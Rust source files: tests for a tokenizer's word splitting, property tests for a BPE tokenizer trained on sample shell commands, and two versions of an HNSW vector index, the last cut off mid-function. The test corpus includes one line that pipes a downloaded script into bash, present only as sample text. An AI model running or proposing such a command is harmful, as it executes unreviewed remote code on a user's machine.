#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn marks_every_word() {
        assert_eq!(
            pretokenize("php -r \"phpinfo();\""),
            vec!["▁php", "▁-r", "▁\"phpinfo();\""]
        );
    }

    #[test]
    fn collapses_repeated_whitespace() {
        assert_eq!(pretokenize("a   b\t c"), vec!["▁a", "▁b", "▁c"]);
    }

    #[test]
    fn empty_line_has_no_pretokens() {
        assert!(pretokenize("").is_empty());
        assert!(pretokenize("   ").is_empty());
    }

    #[test]
    fn detokenize_round_trip() {
        let line = "watch -n 1 nvidia-smi";
        let joined: String = pretokenize(line).concat();
        assert_eq!(detokenize(&joined), line);
    }

    #[test]
    fn symbols_are_single_chars() {
        assert_eq!(to_symbols("▁ls"), vec!["▁", "l", "s"]);
    }
}
