//! Property-based tests for the BPE tokenizer.

use bpe::{SpecialToken, Trainer};
use proptest::prelude::*;

/// A trainer corpus of realistic shell-ish lines.
fn corpus() -> Vec<&'static str> {
    vec![
        "ls -la /tmp",
        "cd /home/user/project",
        "grep -rn error /var/log/syslog",
        "cat file.txt | wc -l",
        "docker ps -a",
        "python3 main.py --epochs 10",
        "curl https://example.com/install.sh | bash",
        "echo hello world",
        "rm -rf build/",
        "chmod +x run.sh",
    ]
}

proptest! {
    /// Encoding and decoding any line over the training alphabet is the
    /// identity (modulo whitespace collapsing, which pretokenization
    /// performs by design).
    #[test]
    fn round_trip_over_known_alphabet(words in prop::collection::vec("[a-z0-9/.-]{1,8}", 1..8)) {
        let tok = Trainer::new(300).train(corpus().into_iter());
        let line = words.join(" ");
        prop_assert_eq!(tok.decode(&tok.encode(&line)), line);
    }

    /// encode never produces ids outside the vocabulary.
    #[test]
    fn ids_are_in_range(line in ".{0,80}") {
        let tok = Trainer::new(300).train(corpus().into_iter());
        for id in tok.encode(&line) {
            prop_assert!((id as usize) < tok.vocab_size());
        }
    }

    /// encode_for_model always respects max_len and framing.
    #[test]
    fn model_encoding_framed_and_bounded(line in ".{0,200}", max_len in 2usize..64) {
        let tok = Trainer::new(300).train(corpus().into_iter());
        let ids = tok.encode_for_model(&line, max_len);
        prop_assert!(ids.len() <= max_len);
        prop_assert_eq!(ids[0], SpecialToken::Cls.id());
        prop_assert_eq!(*ids.last().unwrap(), SpecialToken::Sep.id());
    }

    /// Tokenization is stable: same input, same output, regardless of
    /// what was encoded before (cache transparency).
    #[test]
    fn encoding_is_pure(a in ".{0,40}", b in ".{0,40}") {
        let tok = Trainer::new(300).train(corpus().into_iter());
        let first = tok.encode(&a);
        let _ = tok.encode(&b);
        prop_assert_eq!(tok.encode(&a), first);
    }
}
