//! Hierarchical navigable small-world graph (Malkov & Yashunin, 2016)
//! over cosine similarity — the approximate [`VectorIndex`] backend.
//!
//! Determinism: level assignment draws from the seeded `rand` shim and
//! every heap comparison breaks similarity ties by candidate id
//! (`f32::total_cmp` then id), so the same `(data, params)` pair
//! always builds the same graph and answers queries identically.

use crate::{Neighbor, VectorIndex};
use linalg::ops::{cosine_with_norms, norm, row_norms};
use linalg::Matrix;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::cell::RefCell;
use std::cmp::Ordering;
use std::collections::BinaryHeap;

thread_local! {
    /// Per-thread visited scratch for [`HnswIndex::search_layer`]:
    /// node id → epoch it was last touched in. Reused across queries
    /// (and across indexes — ids are positional) so a query allocates
    /// nothing once the thread has warmed up.
    static VISITED_SCRATCH: RefCell<(Vec<u32>, u32)> = const { RefCell::new((Vec::new(), 0)) };
}

/// HNSW build/search parameters.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct HnswParams {
    /// Max links per node on upper layers (layer 0 allows `2m`).
    pub m: usize,
    /// Candidate-list width during construction.
    pub ef_construction: usize,
    /// Candidate-list width during queries (clamped up to `k`).
    pub ef_search: usize,
    /// Seed for the level-assignment RNG.
    pub seed: u64,
}

impl Default for HnswParams {
    fn default() -> Self {
        // Tuned on 10k × 64-dim sets (see `benches/retrieval_scale.rs`):
        // recall@1 ≈ 0.99 on both isotropic-Gaussian and
        // cluster-structured data, at ≈ 3× / 10× the exact scan's
        // batch throughput respectively. Lower `ef_search` for more
        // speed at the cost of recall.
        HnswParams {
            m: 24,
            ef_construction: 300,
            ef_search: 128,
            seed: 0x05EE_D1D5,
        }
    }
}

impl HnswParams {
    /// Overrides the query-time candidate width.
    pub fn with_ef_search(mut self, ef_search: usize) -> Self {
        self.ef_search = ef_search.max(1);
        self
    }

    /// Overrides the per-node link budget.
    pub fn with_m(mut self, m: usize) -> Self {
        self.m = m.max(2);
        self
    }
}

/// A search frontier entry ordered by similarity (ties by id) so
/// `BinaryHeap` pops the most similar candidate first.
#[derive(Debug, Clone, Copy, PartialEq)]
struct Scored {
    similarity: f32,
    id: usize,
}

impl Eq for Scored {}

impl Ord for Scored {
    fn cmp(&self, other: &Self) -> Ordering {
        self.similarity
            .total_cmp(&other.similarity)
            .then_with(|| other.id.cmp(&self.id))
    }
}

impl PartialOrd for Scored {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

/// The approximate nearest-neighbour graph.
#[derive(Debug, Clone)]
pub struct HnswIndex {
    data: Matrix,
    norms: Vec<f32>,
    params: HnswParams,
    /// `links[node][level]` = neighbour ids of `node` at `level`;
    /// a node participates in levels `0..links[node].len()`.
    links: Vec<Vec<Vec<usize>>>,
    /// Entry node for searches (member of the top level).
    entry: usize,
    /// Highest populated level.
    top_level: usize,
}

impl HnswIndex {
    /// Builds the graph over `data`, deriving candidate norms.
    pub fn build(data: Matrix, params: HnswParams) -> Self {
        let norms = row_norms(&data);
        Self::build_with_norms(data, norms, params)
    }

    /// Builds the graph over `data` with norms the caller already
    /// holds.
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()` or `params.m < 2`.
    pub fn build_with_norms(data: Matrix, norms: Vec<f32>, params: HnswParams) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        assert!(params.m >= 2, "HNSW needs at least 2 links per node");
        let n = data.rows();
        let mut index = HnswIndex {
            data,
            norms,
            params,
            links: Vec::with_capacity(n),
            entry: 0,
            top_level: 0,
        };
        let mut rng = StdRng::seed_from_u64(params.seed);
        let level_scale = 1.0 / (params.m as f64).ln();
        for i in 0..n {
            let level = sample_level(&mut rng, level_scale);
            index.insert(i, level);
        }
        index
    }

    /// The build/search parameters.
    pub fn params(&self) -> &HnswParams {
        &self.params
    }

    /// Cosine similarity between candidate `id` and a query whose norm
    /// is already known.
    #[inline]
    fn sim(&self, id: usize, query: &[f32], query_norm: f32) -> f32 {
        cosine_with_norms(self.data.row(id), self.norms[id], query, query_norm)
    }

    /// Greedy descent at one layer: hill-climb to the locally most
    /// similar node.
    fn greedy(&self, query: &[f32], query_norm: f32, mut best: Scored, level: usize) -> Scored {
        loop {
            let mut improved = false;
            for &nb in &self.links[best.id][level] {
                let s = Scored {
                    similarity: self.sim(nb, query, query_norm),
                    id: nb,
                };
                if s > best {
                    best = s;
                    improved = true;
                }
            }
            if !improved {
                return best;
            }
        }
    }

    /// Best-first beam search at one layer; returns up to `ef`
    /// candidates sorted by descending similarity.
    ///
    /// Visited marking uses a thread-local epoch-stamped scratch
    /// instead of a fresh `vec![false; n]`: per-query cost stays
    /// proportional to the nodes actually touched, not the index size
    /// (the allocation would otherwise dominate at serving scale).
    fn search_layer(
        &self,
        query: &[f32],
        query_norm: f32,
        entries: &[Scored],
        ef: usize,
        level: usize,
    ) -> Vec<Scored> {
        VISITED_SCRATCH.with(|scratch| {
            let (stamps, epoch) = &mut *scratch.borrow_mut();
            if stamps.len() < self.links.len() {
                stamps.resize(self.links.len(), 0);
            }
            *epoch = epoch.wrapping_add(1);
            if *epoch == 0 {
                stamps.fill(0);
                *epoch = 1;
            }
            let epoch = *epoch;
            // Returns whether `id` was already seen, marking it if not.
            let seen = |stamps: &mut Vec<u32>, id: usize| {
                if stamps[id] == epoch {
                    true
                } else {
                    stamps[id] = epoch;
                    false
                }
            };
            // Frontier pops most-similar first; results evict
            // least-similar.
            let mut frontier: BinaryHeap<Scored> = BinaryHeap::new();
            let mut results: BinaryHeap<std::cmp::Reverse<Scored>> = BinaryHeap::new();
            for &e in entries {
                if !seen(stamps, e.id) {
                    frontier.push(e);
                    results.push(std::cmp::Reverse(e));
                }
            }
            while results.len() > ef {
                results.pop();
            }
            while let Some(current) = frontier.pop() {
                let worst = results.peek().expect("results seeded from entries").0;
                if results.len() >= ef && current < worst {
                    break;
                }
                for &nb in &self.links[current.id][level] {
                    if seen(stamps, nb) {
                        continue;
                    }
                    let cand = Scored {
                        similarity: self.sim(nb, query, query_norm),
                        id: nb,
                    };
                    let worst = results.peek().expect("non-empty").0;
                    if results.len() < ef || cand > worst {
                        frontier.push(cand);
                        results.push(std::cmp::Reverse(cand));
                        if results.len() > ef {
                            results.pop();
                        }
                    }
                }
            }
            let mut out: Vec<Scored> = results.into_iter().map(|r| r.0).collect();
            out.sort_by(|a, b| b.cmp(a));
            out
        })
    }

    /// Link budget at a layer (layer 0 is denser, as in the paper).
    fn max_links(&self, level: usize) -> usize {
        if level == 0 {
            self.params.m * 2
        } else {
            self.params.m
        }
    }

    /// Inserts node `i` at `level`, wiring bidirectional links.
    fn insert(&mut self, i: usize, level: usize) {
        self.links.push(vec![Vec::new(); level + 1]);
        if i == 0 {
            self.entry = 0;
            self.top_level = level;
            return;
        }
        let query: Vec<f32> = self.data.row(i).to_vec();
        let nq = self.norms[i];
        let mut ep = Scored {
            similarity: self.sim(self.entry, &query, nq),
            id: self.entry,
        };
        // Descend through layers above the new node's level greedily.
        for l in (level + 1..=self.top_level).rev() {
            ep = self.greedy(&query, nq, ep, l);
        }
        // Beam-search each shared layer and wire the best m links.
        let mut entries = vec![ep];
        for l in (0..=level.min(self.top_level)).rev() {
            let found = self.search_layer(&query, nq, &entries, self.params.ef_construction, l);
            for &nb in found.iter().take(self.params.m) {
                self.links[i][l].push(nb.id);
                self.links[nb.id][l].push(i);
                if self.links[nb.id][l].len() > self.max_links(l) {
                    self.prune(nb.id, l);
                }
            }
            entries = found;
        }
        if level > self.top_level {
            self.top_level = level;
            self.entry = i;
        }
    }

    /// Shrinks an over-full link list to the layer budget, keeping the
    /// most similar neighbours (ties by id, deterministically).
    fn prune(&mut self, node: usize, level: usize) {
        let anchor: Vec<f32> = self.data.row(node).to_vec();
        let na = self.norms[node];
        let mut scored: Vec<Scored> = self.links[node][level]
            .iter()
            .map(|&nb| Scored {
                similarity: self.sim(nb, &anchor, na),
                id: nb,
            })
            .collect();
        scored.sort_by(|a, b| b.cmp(a));
        scored.truncate(self.max_links(level));
        self.links[node][level] = scored.into_iter().map(|s| s.id).collect();
    }
}

/// Draws a node level from the standard HNSW geometric-ish
/// distribution `floor(-ln(U) · scale)`, capped to keep pathological
/// draws from building absurd towers.
fn sample_level(rng: &mut StdRng, scale: f64) -> usize {
    let u: f64 = rng.gen();
    let level = (-(1.0 - u).ln() * scale).floor();
    (level as usize).min(24)
}

impl VectorIndex for HnswIndex {
    fn len(&self) -> usize {
        self.data.rows()
    }

    fn dim(&self) -> usize {
        self.data.cols()
    }

    fn query(&self, query: &[f32], k: usize) -> Vec<Neighbor> {
        assert_eq!(query.len(), self.dim(), "query dimensionality mismatch");
        if self.is_empty() || k == 0 {
            return Vec::new();
        }
        let nq = norm(query);
        let mut ep = Scored {
            similarity: self.sim(self.entry, query, nq),
            id: self.entry,
        };
        for l in (1..=self.top_level).rev() {
            ep = self.greedy(query, nq, ep, l);
        }
        let ef = self.params.ef_search.max(k);
        let found = self.search_layer(query, nq, &[ep], ef, 0);
        found
            .into_iter()
            .take(k)
            .map(|s| Neighbor {
                id: s.id,
                similarity: s.similarity,
            })
            .collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ExactIndex;
    use linalg::rng::randn;

    #[test]
    fn finds_the_exact_nearest_on_clustered_data() {
        let mut rng = StdRng::seed_from_u64(21);
        let centers = randn(&mut rng, 12, 16, 1.0);
        let data = linalg::rng::clustered_around(&mut rng, &centers, 300, 0.15);
        let exact = ExactIndex::build(data.clone());
        let hnsw = HnswIndex::build(data.clone(), HnswParams::default());
        let queries = linalg::rng::clustered_around(&mut rng, &centers, 24, 0.15);
        let mut hits = 0;
        for r in 0..queries.rows() {
            let want = exact.query(queries.row(r), 1)[0];
            let got = hnsw.query(queries.row(r), 1)[0];
            if got.id == want.id {
                hits += 1;
                assert_eq!(got.similarity, want.similarity);
            }
        }
        assert!(hits >= 22, "recall@1 too low: {hits}/24");
    }

    #[test]
    fn same_seed_builds_identical_graphs() {
        let mut rng = StdRng::seed_from_u64(22);
        let data = randn(&mut rng, 120, 8, 1.0);
        let a = HnswIndex::build(data.clone(), HnswParams::default());
        let b = HnswIndex::build(data.clone(), HnswParams::default());
        assert_eq!(a.links, b.links);
        let q = data.row(17);
        assert_eq!(a.query(q, 5), b.query(q, 5));
    }

    #[test]
    fn link_budgets_are_respected() {
        let mut rng = StdRng::seed_from_u64(23);
        let data = randn(&mut rng, 300, 8, 1.0);
        let params = HnswParams::default().with_m(6);
        let idx = HnswIndex::build(data, params);
        for (node, levels) in idx.links.iter().enumerate() {
            for (l, nbs) in levels.iter().enumerate() {
                let budget = if l == 0 { 12 } else { 6 };
                assert!(
                    nbs.len() <= budget,
                    "node {node} level {l} has {} links",
                    nbs.len()
                );
            }
        }
    }

    #[test]
    fn singleton_and_tiny_indexes_answer() {
        let data = Matrix::from_rows(&[&[1.0, 0.0]]);
        let idx = HnswIndex::build(data, HnswParams::default());
        let top = idx.query(&[1.0, 0.0], 3);
        assert_eq!(top.len(), 1);
        assert_eq!(top[0].id, 0);
    }

    #[test]
    fn query_k_zero_is_empty() {
        let data = Matrix::from_rows(&[&[1.0, 0.0], &[0.0, 1.0]]);
        let idx = HnswIndex::build(data, HnswParams::default());
        assert!(idx.query(&[1.0, 0.0], 0).is_empty());
    }
}
