//! Hierarchical navigable small-world graph (Malkov & Yashunin, 2016)
//! over cosine similarity — the approximate [`VectorIndex`] backend.
//!
//! Determinism: level assignment draws from the seeded `rand` shim and
//! every heap comparison breaks similarity ties by candidate id
//! (`f32::total_cmp` then id), so the same `(data, params)` pair
//! always builds the same graph and answers queries identically. The
//! level RNG lives in the index, so the same *operation sequence*
//! (build, then any interleaving of [`HnswIndex::insert`] /
//! [`HnswIndex::remove`] / [`HnswIndex::compact`]) is deterministic
//! too, and a persisted graph replays the RNG stream on restore
//! ([`crate::persist`]) so post-restore inserts match a never-saved
//! twin.
//!
//! Production supervision arrives continuously, so the graph is *not*
//! build-once: [`HnswIndex::insert`] wires new exemplars into the live
//! graph (the same path construction uses), [`HnswIndex::remove`]
//! tombstones retired ones (kept for graph connectivity, filtered from
//! results), and when the tombstone ratio crosses
//! [`HnswParams::compact_ratio`] a removal triggers a compaction
//! rebuild over the live rows (see [`HnswIndex::remove`] for the id
//! contract).

use crate::{Neighbor, VectorIndex};
use linalg::ops::{norm, row_norms};
use linalg::quant::{PreparedQuery, Quantization, QuantizedMatrix};
use linalg::Matrix;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::cell::{Cell, RefCell};
use std::cmp::Ordering;
use std::collections::BinaryHeap;

thread_local! {
    /// Per-thread visited scratch for [`HnswIndex::search_layer`]:
    /// node id → epoch it was last touched in. Reused across queries
    /// (and across indexes — ids are positional) so a query allocates
    /// nothing once the thread has warmed up.
    static VISITED_SCRATCH: RefCell<(Vec<u32>, u32)> = const { RefCell::new((Vec::new(), 0)) };
}

thread_local! {
    /// Full graph-construction passes (initial builds + compaction
    /// rebuilds) run **on this thread**. A service cold-starting from
    /// a persisted snapshot must leave this untouched — that claim is
    /// asserted against this counter, not hoped for. Thread-local
    /// (construction is synchronous on the calling thread) so the
    /// assertion is exact even while sibling test threads build their
    /// own indexes concurrently.
    static CONSTRUCTION_PASSES: Cell<usize> = const { Cell::new(0) };
}

/// Number of O(n·ef_construction) graph-construction passes the
/// calling thread has run (builds and compactions; snapshot restores
/// don't count).
pub fn construction_passes() -> usize {
    CONSTRUCTION_PASSES.with(Cell::get)
}

/// Records one construction pass on the calling thread.
fn count_construction_pass() {
    CONSTRUCTION_PASSES.with(|c| c.set(c.get() + 1));
}

/// HNSW build/search parameters.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct HnswParams {
    /// Max links per node on upper layers (layer 0 allows `2m`).
    pub m: usize,
    /// Candidate-list width during construction.
    pub ef_construction: usize,
    /// Candidate-list width during queries (clamped up to `k`).
    pub ef_search: usize,
    /// Seed for the level-assignment RNG.
    pub seed: u64,
    /// Tombstone fraction (`removed / total rows`) above which a
    /// [`HnswIndex::remove`] triggers a compaction rebuild.
    pub compact_ratio: f32,
}

impl Default for HnswParams {
    fn default() -> Self {
        // Tuned on 10k × 64-dim sets (see `benches/retrieval_scale.rs`):
        // recall@1 ≈ 0.99 on both isotropic-Gaussian and
        // cluster-structured data, at ≈ 3× / 10× the exact scan's
        // batch throughput respectively. Lower `ef_search` for more
        // speed at the cost of recall.
        HnswParams {
            m: 24,
            ef_construction: 300,
            ef_search: 128,
            seed: 0x05EE_D1D5,
            compact_ratio: 0.3,
        }
    }
}

impl HnswParams {
    /// Overrides the query-time candidate width.
    pub fn with_ef_search(mut self, ef_search: usize) -> Self {
        self.ef_search = ef_search.max(1);
        self
    }

    /// Overrides the per-node link budget.
    pub fn with_m(mut self, m: usize) -> Self {
        self.m = m.max(2);
        self
    }

    /// Overrides the tombstone ratio that triggers compaction.
    pub fn with_compact_ratio(mut self, ratio: f32) -> Self {
        self.compact_ratio = ratio.clamp(0.0, 1.0);
        self
    }
}

/// A search frontier entry ordered by similarity (ties by id) so
/// `BinaryHeap` pops the most similar candidate first.
#[derive(Debug, Clone, Copy, PartialEq)]
struct Scored {
    similarity: f32,
    id: usize,
}

impl Eq for Scored {}

impl Ord for Scored {
    fn cmp(&self, other: &Self) -> Ordering {
        self.similarity
            .total_cmp(&other.similarity)
            .then_with(|| other.id.cmp(&self.id))
    }
}

impl PartialOrd for Scored {
    fn partial_cmp(&self, other: &Self) -> Option<Ordering> {
        Some(self.cmp(other))
    }
}

/// The approximate nearest-neighbour graph.
///
/// Candidates live in a [`QuantizedMatrix`]; the default f32 storage
/// is bit-identical to the historical graph, while f16/i8 cut the
/// bytes each beam search streams. Norms stay the original f32 row
/// norms in every format.
#[derive(Debug, Clone)]
pub struct HnswIndex {
    data: QuantizedMatrix,
    norms: Vec<f32>,
    params: HnswParams,
    /// `links[node][level]` = neighbour ids of `node` at `level`;
    /// a node participates in levels `0..links[node].len()`.
    links: Vec<Vec<Vec<usize>>>,
    /// Entry node for searches (member of the top level).
    entry: usize,
    /// Highest populated level.
    top_level: usize,
    /// `tombstone[node]` = removed; kept in the graph for traversal,
    /// filtered from results until the next compaction.
    tombstone: Vec<bool>,
    /// Count of set tombstones.
    dead: usize,
    /// Level-assignment RNG; lives here so interleaved build/insert
    /// sequences are deterministic.
    rng: StdRng,
    /// Level draws consumed so far — persisted so a restored index
    /// replays the RNG stream to the same point.
    draws: u64,
}

impl HnswIndex {
    /// Builds the graph over `data` in f32, deriving candidate norms.
    pub fn build(data: Matrix, params: HnswParams) -> Self {
        let norms = row_norms(&data);
        Self::build_with_norms(data, norms, params)
    }

    /// Builds the graph over `data` in f32 with norms the caller
    /// already holds. Counts as one construction pass
    /// ([`construction_passes`]).
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()` or `params.m < 2`.
    pub fn build_with_norms(data: Matrix, norms: Vec<f32>, params: HnswParams) -> Self {
        Self::build_quantized(data, norms, params, Quantization::F32)
    }

    /// [`HnswIndex::build_with_norms`] with candidates stored in the
    /// chosen format (norms are always the original f32 norms).
    ///
    /// # Panics
    ///
    /// Panics if `norms.len() != data.rows()` or `params.m < 2`.
    pub fn build_quantized(
        data: Matrix,
        norms: Vec<f32>,
        params: HnswParams,
        quant: Quantization,
    ) -> Self {
        assert_eq!(norms.len(), data.rows(), "one norm per candidate row");
        assert!(params.m >= 2, "HNSW needs at least 2 links per node");
        let n = data.rows();
        let mut index = HnswIndex {
            data: QuantizedMatrix::encode(data, quant),
            norms,
            params,
            links: Vec::with_capacity(n),
            entry: 0,
            top_level: 0,
            tombstone: Vec::with_capacity(n),
            dead: 0,
            rng: StdRng::seed_from_u64(params.seed),
            draws: 0,
        };
        for i in 0..n {
            index.grow(i);
        }
        count_construction_pass();
        index
    }

    /// The build/search parameters.
    pub fn params(&self) -> &HnswParams {
        &self.params
    }

    /// The per-node adjacency lists (`links()[node][level]`), exposed
    /// so persistence round-trip tests can compare graphs node for
    /// node.
    pub fn links(&self) -> &[Vec<Vec<usize>>] {
        &self.links
    }

    /// Number of tombstoned (removed but not yet compacted) nodes.
    pub fn tombstones(&self) -> usize {
        self.dead
    }

    /// Number of live (non-tombstoned) candidates.
    pub fn live(&self) -> usize {
        self.data.rows() - self.dead
    }

    /// Whether the tombstone ratio has crossed
    /// [`HnswParams::compact_ratio`] (the next [`HnswIndex::remove`]
    /// will compact; callers batching removals may also call
    /// [`HnswIndex::compact`] themselves).
    pub fn needs_compaction(&self) -> bool {
        self.dead > 0 && self.dead as f32 >= self.params.compact_ratio * self.data.rows() as f32
    }

    /// Inserts a new candidate into the live graph (the same wiring
    /// path construction uses) and returns its id — ids are assigned
    /// densely, so the new id is the previous [`VectorIndex::len`].
    ///
    /// # Panics
    ///
    /// Panics if `row.len() != self.dim()` on a non-empty index.
    pub fn insert(&mut self, row: &[f32]) -> usize {
        let n = norm(row);
        self.insert_with_norm(row, n)
    }

    /// [`HnswIndex::insert`] with a norm the caller already holds.
    pub fn insert_with_norm(&mut self, row: &[f32], row_norm: f32) -> usize {
        if self.data.rows() > 0 {
            assert_eq!(row.len(), self.dim(), "insert dimensionality mismatch");
        }
        let id = self.data.rows();
        self.data.push_row(row);
        self.norms.push(row_norm);
        self.grow(id);
        id
    }

    /// Tombstones candidate `id`: it stays in the graph for traversal
    /// but is filtered from every future result. Returns `None` if
    /// `id` is out of range or already removed (nothing happened).
    ///
    /// On success the removal may push the tombstone ratio across
    /// [`HnswParams::compact_ratio`] and trigger a
    /// [`HnswIndex::compact`] rebuild, which **renumbers ids**: the
    /// returned remap is then non-empty (`remap[old] = Some(new)`),
    /// and callers keeping per-id side tables (labels, metadata) must
    /// apply it. A plain tombstoning returns `Some` of an **empty**
    /// remap — ids unchanged.
    pub fn remove(&mut self, id: usize) -> Option<Vec<Option<usize>>> {
        if id >= self.data.rows() || self.tombstone[id] {
            return None;
        }
        self.tombstone[id] = true;
        self.dead += 1;
        if self.needs_compaction() {
            Some(self.compact())
        } else {
            Some(Vec::new())
        }
    }

    /// Rebuilds the graph over the live rows only, dropping tombstoned
    /// data. Counts as one construction pass. Returns the id remap
    /// (`remap[old_id] = Some(new_id)` for survivors, `None` for
    /// tombstoned rows); an empty remap means nothing was tombstoned
    /// and the graph is unchanged.
    pub fn compact(&mut self) -> Vec<Option<usize>> {
        if self.dead == 0 {
            return Vec::new();
        }
        let old_rows = self.data.rows();
        let mut remap: Vec<Option<usize>> = vec![None; old_rows];
        let mut keep = Vec::with_capacity(old_rows - self.dead);
        let mut live_norms = Vec::with_capacity(old_rows - self.dead);
        let mut next = 0usize;
        for (old, slot) in remap.iter_mut().enumerate() {
            if self.tombstone[old] {
                continue;
            }
            *slot = Some(next);
            keep.push(old);
            live_norms.push(self.norms[old]);
            next += 1;
        }
        // Raw-code row copy: compaction never decodes and re-encodes,
        // so it is lossless in every storage format.
        self.data = self.data.select_rows(&keep);
        self.norms = live_norms;
        self.links = Vec::with_capacity(next);
        self.tombstone = Vec::with_capacity(next);
        self.entry = 0;
        self.top_level = 0;
        self.dead = 0;
        for i in 0..next {
            self.grow(i);
        }
        count_construction_pass();
        remap
    }

    /// Draws a level for node `i` (which `data`/`norms` already hold)
    /// and wires it into the graph.
    fn grow(&mut self, i: usize) {
        let level_scale = 1.0 / (self.params.m as f64).ln();
        let level = sample_level(&mut self.rng, level_scale);
        self.draws += 1;
        self.tombstone.push(false);
        self.insert_node(i, level);
    }

    /// Cosine similarity between candidate `id` and a prepared query
    /// whose norm is already known (0.0 on degenerate norms, as the
    /// historical `cosine_with_norms` guaranteed — the zero-norm
    /// contract holds in every storage format).
    ///
    /// Queries are prepared **once per graph operation** (query,
    /// insert, prune) — see [`QuantizedMatrix::prepare_query`] — so on
    /// i8 storage every per-candidate evaluation in the beam search is
    /// a pure integer-kernel dot instead of re-quantizing the query.
    #[inline]
    fn sim(&self, id: usize, pq: &PreparedQuery<'_>, query_norm: f32) -> f32 {
        self.data
            .cosine_row_prepared(id, self.norms[id], pq, query_norm)
    }

    /// Greedy descent at one layer: hill-climb to the locally most
    /// similar node.
    fn greedy(
        &self,
        pq: &PreparedQuery<'_>,
        query_norm: f32,
        mut best: Scored,
        level: usize,
    ) -> Scored {
        loop {
            let mut improved = false;
            for &nb in &self.links[best.id][level] {
                let s = Scored {
                    similarity: self.sim(nb, pq, query_norm),
                    id: nb,
                };
                if s > best {
                    best = s;
                    improved = true;
                }
            }
            if !improved {
                return best;
            }
        }
    }

    /// Best-first beam search at one layer; returns up to `ef`
    /// candidates sorted by descending similarity.
    ///
    /// Visited marking uses a thread-local epoch-stamped scratch
    /// instead of a fresh `vec![false; n]`: per-query cost stays
    /// proportional to the nodes actually touched, not the index size
    /// (the allocation would otherwise dominate at serving scale).
    fn search_layer(
        &self,
        pq: &PreparedQuery<'_>,
        query_norm: f32,
        entries: &[Scored],
        ef: usize,
        level: usize,
    ) -> Vec<Scored> {
        VISITED_SCRATCH.with(|scratch| {
            let (stamps, epoch) = &mut *scratch.borrow_mut();
            if stamps.len() < self.links.len() {
                stamps.resize(self.links.len(), 0);
            }
            *epoch = epoch.wrapping_add(1);
            if *epoch == 0 {
                stamps.fill(0);
                *epoch = 1;
            }
            let epoch = *epoch;
            // Returns whether `id` was already seen, marking it if not.
            let seen = |stamps: &mut Vec<u32>, id: usize| {
                if stamps[id] == epoch {
                    true
                } else {
                    stamps[id] = epoch;
                    false
                }
            };
            // Frontier pops most-similar first; results evict
            // least-similar.
            let mut frontier: BinaryHeap<Scored> = BinaryHeap::new();
            let mut results: BinaryHeap<std::cmp::Reverse<Scored>> = BinaryHeap::new();
            for &e in entries {
                if !seen(stamps, e.id) {
                    frontier.push(e);
                    results.push(std::cmp::Reverse(e));
                }
            }
            while results.len() > ef {
                results.pop();
            }
            while let Some(current) = frontier.pop() {
                let worst = results.peek().expect("results seeded from entries").0;
                if results.len() >= ef && current < worst {
                    break;
                }
                for &nb in &self.links[current.id][level] {
                    if seen(stamps, nb) {
                        continue;
                    }
                    let cand = Scored {
                        similarity: self.sim(nb, pq, query_norm),
                        id: nb,
                    };
                    let worst = results.peek().expect("non-empty").0;
                    if results.len() < ef || cand > worst {
                        frontier.push(cand);
                        results.push(std::cmp::Reverse(cand));
                        if results.len() > ef {
                            results.pop();
                        }
                    }
                }
            }
            let mut out: Vec<Scored> = results.into_iter().map(|r| r.0).collect();
            out.sort_by(|a, b| b.cmp(a));
            out
        })
    }

    /// Link budget at a layer (layer 0 is denser, as in the paper).
    fn max_links(&self, level: usize) -> usize {
        if level == 0 {
            self.params.m * 2
        } else {
            self.params.m
        }
    }

    /// Inserts node `i` at `level`, wiring bidirectional links.
    fn insert_node(&mut self, i: usize, level: usize) {
        self.links.push(vec![Vec::new(); level + 1]);
        if i == 0 {
            self.entry = 0;
            self.top_level = level;
            return;
        }
        // The wiring anchor is the *stored* (possibly dequantized) row
        // — build and insert then agree exactly, whatever the format.
        let query: Vec<f32> = self.data.decode_row(i);
        let pq = self.data.prepare_query(&query);
        let nq = self.norms[i];
        let mut ep = Scored {
            similarity: self.sim(self.entry, &pq, nq),
            id: self.entry,
        };
        // Descend through layers above the new node's level greedily.
        for l in (level + 1..=self.top_level).rev() {
            ep = self.greedy(&pq, nq, ep, l);
        }
        // Beam-search each shared layer and wire the best m links.
        let mut entries = vec![ep];
        for l in (0..=level.min(self.top_level)).rev() {
            let found = self.search_layer(&pq, nq, &entries, self.params.ef_construction, l);
            for &nb in found.iter().take(self.params.m) {
                self.links[i][l].push(nb.id);
                self.links[nb.id][l].push(i);
                if self.links[nb.id][l].len() > self.max_links(l) {
                    self.prune(nb.id, l);
                }
            }
            entries = found;
        }
        if level > self.top_level {
            self.top_level = level;
            self.entry = i;
        }
    }

    /// Shrinks an over-full link list to the layer budget, keeping the
    /// most similar neighbours (ties by id, deterministically).
    fn prune(&mut self, node: usize, level: usize) {
        let anchor: Vec<f32> = self.data.decode_row(node);
        let pa = self.data.prepare_query(&anchor);
        let na = self.norms[node];
        let mut scored: Vec<Scored> = self.links[node][level]
            .iter()
            .map(|&nb| Scored {
                similarity: self.sim(nb, &pa, na),
                id: nb,
            })
            .collect();
        scored.sort_by(|a, b| b.cmp(a));
        scored.truncate(self.max_links(level));
        self.links[node][level] = scored.into_iter().map(|s| s.id).collect();
    }

    /// Disassembles the index for persistence (graph, data, norms, RNG
    /// replay count — everything a restore needs to continue the
    /// operation stream deterministically).
    #[allow(clippy::type_complexity)]
    pub(crate) fn to_parts(
        &self,
    ) -> (
        &QuantizedMatrix,
        &[f32],
        HnswParams,
        &[Vec<Vec<usize>>],
        usize,
        usize,
        &[bool],
        u64,
    ) {
        (
            &self.data,
            &self.norms,
            self.params,
            &self.links,
            self.entry,
            self.top_level,
            &self.tombstone,
            self.draws,
        )
    }

    /// Reassembles a persisted index **without** a construction pass:
    /// the saved graph is adopted as-is and the level RNG is replayed
    /// `draws` samples forward so later inserts match a never-saved
    /// twin.
    #[allow(clippy::too_many_arguments)]
    pub(crate) fn from_parts(
        data: QuantizedMatrix,
        norms: Vec<f32>,
